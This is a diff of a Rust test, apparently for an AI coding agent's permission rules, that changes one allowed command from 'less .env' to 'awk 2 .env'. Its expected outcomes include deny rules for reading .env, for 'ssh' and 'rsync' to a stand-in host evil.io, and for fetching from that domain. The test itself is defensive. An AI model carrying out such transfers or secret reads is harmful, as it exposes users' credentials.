@@ -113,7 +113,7 @@ async fn an_exact_rule_lets_through_what_is_not_known() {
 async fn the_words_of_a_program_are_held_against_rules() {
     let given = "-Read(.env); -Edit(locked/**); ?Read(*.pem); -WebFetch(domain:evil.io)";
     for (mode, allow) in [("default", "; +Bash"), ("bypassPermissions", "")] {
-        let session = with(rules(&format!("{given}{allow}; +Bash(less .env)"))).mode(mode).open();
+        let session = with(rules(&format!("{given}{allow}; +Bash(awk 2 .env)"))).mode(mode).open();
         session.room.write("work/locked/x", "x");
         std::os::unix::fs::symlink(session.room.at("work/locked"), session.room.at("work/fine")).unwrap();
         session
@@ -132,7 +132,7 @@ async fn the_words_of_a_program_are_held_against_rules() {
                  deny Bash ssh me@EVIL.io
                  ask Bash http https:evil.io
                  deny Bash rsync a evil.io:x
-                 allow Bash less .env
+                 allow Bash awk 2 .env
                  allow Bash awk 1 a.txt
                  allow Bash tool --file=src/env
                  allow Bash nc good.io 80
